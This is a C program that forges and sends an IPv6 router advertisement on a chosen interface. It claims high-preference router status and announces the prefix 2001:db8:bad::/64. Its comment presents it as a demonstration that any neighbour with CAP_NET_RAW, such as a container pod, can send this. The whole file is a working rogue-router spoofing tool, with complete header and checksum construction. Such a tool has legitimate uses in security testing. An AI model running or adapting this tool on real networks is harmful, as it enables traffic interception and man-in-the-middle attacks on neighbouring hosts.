/*
 * Sends a router advertisement (RFC 4861, 4.2) from a device, by the raw socket that CAP_NET_RAW allows: "I am the
 * router, prefer me, and take an address of 2001:db8:bad::/64". Any neighbour on the same network can send it to a pod.
 *
 *   router-advertisement DEVICE
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip6.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

struct advertisement {
  struct ether_header ether;
  struct ip6_hdr ip;
  struct nd_router_advert router;
  struct nd_opt_prefix_info prefix;
} __attribute__((packed));

static const uint8_t liar[ETH_ALEN] = {0x02, 0, 0, 0, 0x0b, 0xad};

static uint32_t sum(const void *bytes, size_t length) {
  const uint8_t *at = bytes;
  uint32_t total = 0;
  for (size_t i = 0; i + 1 < length; i += 2) total += (uint32_t)at[i] << 8 | at[i + 1];
  return total;
}

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  struct advertisement frame = {0};
  static const uint8_t all_nodes[ETH_ALEN] = {0x33, 0x33, 0, 0, 0, 1};
  memcpy(frame.ether.ether_dhost, all_nodes, ETH_ALEN);
  memcpy(frame.ether.ether_shost, liar, ETH_ALEN);
  frame.ether.ether_type = htons(ETHERTYPE_IPV6);

  const uint16_t length = sizeof frame.router + sizeof frame.prefix;
  frame.ip.ip6_flow = htonl(6u << 28);
  frame.ip.ip6_plen = htons(length);
  frame.ip.ip6_nxt = IPPROTO_ICMPV6;
  frame.ip.ip6_hlim = 255;
  inet_pton(AF_INET6, "fe80::bad", &frame.ip.ip6_src);
  inet_pton(AF_INET6, "ff02::1", &frame.ip.ip6_dst);

  frame.router.nd_ra_type = ND_ROUTER_ADVERT;
  frame.router.nd_ra_curhoplimit = 64;
  frame.router.nd_ra_flags_reserved = 0x08; /* high preference, RFC 4191 */
  frame.router.nd_ra_router_lifetime = htons(1800);
  frame.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
  frame.prefix.nd_opt_pi_len = 4;
  frame.prefix.nd_opt_pi_prefix_len = 64;
  frame.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
  frame.prefix.nd_opt_pi_valid_time = htonl(3600);
  frame.prefix.nd_opt_pi_preferred_time = htonl(3600);
  inet_pton(AF_INET6, "2001:db8:bad::", &frame.prefix.nd_opt_pi_prefix);

  uint32_t total = sum(&frame.ip.ip6_src, 32) + length + IPPROTO_ICMPV6 + sum(&frame.router, length);
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  frame.router.nd_ra_cksum = htons((uint16_t)~total);

  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IPV6));
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_halen = ETH_ALEN, .sll_ifindex = (int)if_nametoindex(argv[1])};
  if (fd < 0 || sendto(fd, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) != sizeof frame) {
    perror(argv[1]);
    return 1;
  }
  return 0;
}
